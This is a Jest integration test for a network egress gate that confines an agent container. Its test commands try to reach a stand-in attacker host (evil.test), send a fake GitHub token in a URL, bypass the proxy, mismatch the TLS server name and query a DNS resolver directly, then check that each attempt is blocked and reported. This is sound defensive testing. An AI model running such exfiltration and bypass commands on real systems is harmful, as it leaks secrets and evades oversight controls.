import { readFileSync } from 'node:fs'
import { join, resolve } from 'node:path'
import { afterAll, beforeAll, describe, expect, jest, test } from '@jest/globals'
import Docker from 'dockerode'
import type { Summary } from '../../src/evidence/summary.ts'
import { exfiltrating } from '../support/gate/exfiltrating.ts'
import { openResolver, type Resolver } from '../support/gate/resolver.ts'
import { presentGates } from '../support/gates.ts'
import { agentImage, type Internet, openInternet } from '../support/hosts/internet.ts'
import { startRunner } from '../support/runner/runner.ts'

// What a bottle is refused is counted by its class; and a name that it looks up itself goes nowhere, at once.
jest.setTimeout(90_000)

const gates = await presentGates()
const dataName = exfiltrating.find(one => one.pipelock)?.host('allowed.test') ?? ''
const token = ['gh', 'p_', 'k3Jd9Qx7Rb2Vn5Tz8Lw1Pm4Hs6Gf0YcAeUiO'.split('').reverse().join('')].join('')

let internet: Internet
let resolver: Resolver
beforeAll(async () => {
  internet = await openInternet([{ role: 'listener', names: ['allowed.test', 'evil.test', dataName] }])
  resolver = await openResolver(internet.network, await internet.address('allowed.test'))
})
afterAll(async () => {
  await resolver?.[Symbol.asyncDispose]()
  await internet?.[Symbol.asyncDispose]()
})

const lookUp = (name: string) => `
node -e '
const { lookup, Resolver } = require("dns").promises
const from = Date.now()
const direct = new Resolver({ timeout: 500, tries: 1 })
direct.setServers(["${resolver.address}"])
Promise.allSettled([lookup("${name}")]).then(async ([one]) => {
  console.log("looked up", one.status, "within a second:", Date.now() - from < 1000)
  const two = await Promise.allSettled([direct.resolve4("direct.${name}")])
  console.log("asked directly", two[0].status)
})'`

describe.each(gates)('a bottle behind the gate $name', ({ name, inputs }) => {
  test('counts every kind apart, everywhere the same, and resolves nothing itself', async () => {
    await using runner = await startRunner(resolve(import.meta.dirname, '../..'))
    const run = [
      'curl -sS http://evil.test/a || true',
      'curl -sS http://evil.test/again || true',
      'curl -sS https://evil.test/b || true',
      `curl -sS http://allowed.test/?t=${token} || true`,
      `curl -sS http://${dataName}/ || true`,
      'curl -sS http://10.11.12.13/ || true',
      'curl -sS http://nowhere.allowed.test/ || true',
      // The TLS server name is not the host that the tunnel is for.
      `node -e '
const { request } = require("http")
const { connect } = require("tls")
const { hostname, port } = new URL(process.env.HTTP_PROXY)
request({ hostname, port, method: "CONNECT", path: "allowed.test:443" })
  .on("connect", (_, socket) => connect({ socket, servername: "evil.test" }).on("error", () => {}).on("close", () => process.exit()))
  .end()'`,
      'curl -sS http://meant.evil.test/ || true',
      lookUp(`lookup-${name}.evil.test`),
      `curl -sS --noproxy "*" -m 5 http://${await internet.address('allowed.test')}/past || true`,
      'true',
    ].join('\n')
    const spec = 'egress: {expected-blocks: [meant.evil.test]}\n'
    const step = runner.step({
      with: { ...inputs, spec, image: agentImage, allow: 'allowed.test\n*.allowed.test\n10.11.12.13', run },
      env: {},
    })
    const main = await step.main()
    await step.post()
    const folder = main.outputs['evidence-path'] ?? ''
    const summary = JSON.parse(readFileSync(join(folder, 'summary.json'), 'utf8')) as Summary
    const lines = readFileSync(join(folder, 'blocked.jsonl'), 'utf8').trim().split('\n')
    const byKind = { 'not-allowed': 4, secret: 1, heuristic: 1, 'private-address': 1, protocol: 1 }
    expect(main.outputs).toMatchObject({
      enforced: 'true',
      'blocked-count': '8',
      'dlp-count': '1',
      'expected-count': '1',
      // The request past the gate, and the question to a resolver of the agent's choice.
      'direct-count': '2',
    })
    expect(summary.counts).toMatchObject({ blocked: 8, dlp: 1, expected: 1, gateErrors: 1, warnings: 0, byKind })
    const kinds = Map.groupBy(lines, line => JSON.parse(line).kind)
    expect(Object.fromEntries([...kinds].map(([kind, of]) => [kind, of.length]))).toEqual(byKind)
    expect(summary.direct).toMatchObject({ observed: true, count: 2 })
    // Repeats are one row, with the first time and the last.
    const [twice] = summary.blocks.filter(one => one.host === 'evil.test' && one.port === 80)
    expect(twice).toMatchObject({ method: 'GET', kind: 'not-allowed', count: 2 })
    expect(Date.parse(twice?.first ?? '')).toBeLessThanOrEqual(Date.parse(twice?.last ?? ''))
    expect(summary.blocks.flatMap(one => one.secrets ?? []).join()).toMatch(/^github.* in the URL$/i)
    // What people read agrees: a row and an annotation for each host and kind, none for what is meant or for what failed.
    const page = JSON.parse(
      /id="data">(.*)<\/script>/.exec(readFileSync(join(folder, 'report.html'), 'utf8'))?.[1] ?? '',
    )
    const rows = page.rows as { state: string; count: number }[]
    const refused = rows.filter(one => one.state === 'blocked' || one.state === 'secret')
    expect(refused.reduce((sum, one) => sum + one.count, 0)).toBe(7)
    const told = main.annotations.map(one => one.data).filter(text => text.startsWith('Blocked '))
    expect(told).toHaveLength(5)
    expect(told[0]).toMatch(/^Blocked allowed\.test:80: carried a secret \(/)
    expect(told.join()).not.toMatch(/meant|nowhere/)
    expect(main.log.join('\n')).toContain('looked up rejected within a second: true')
    expect(main.log.join('\n')).toContain('asked directly rejected')
    expect((await resolver.names()).filter(one => one.includes(`lookup-${name}`))).toEqual([])
    expect((await internet.hits('allowed.test')).filter(hit => hit.kind === 'request')).toEqual([])
  })
})

test('the control: outside a bottle both look-ups reach the resolver', async () => {
  const container = await new Docker().createContainer({
    Image: agentImage,
    Entrypoint: ['sh', '-c', lookUp('lookup-control.evil.test')],
    HostConfig: { NetworkMode: internet.network, Dns: [resolver.address] },
  })
  await container.start()
  await container.wait()
  const said = (await container.logs({ stdout: true, stderr: true })).toString('utf8')
  await container.remove({ force: true })
  expect(said).toContain('looked up fulfilled')
  expect(said).toContain('asked directly fulfilled')
  const names = await resolver.names()
  for (const name of ['lookup-control.evil.test', 'direct.lookup-control.evil.test']) expect(names).toContain(name)
})
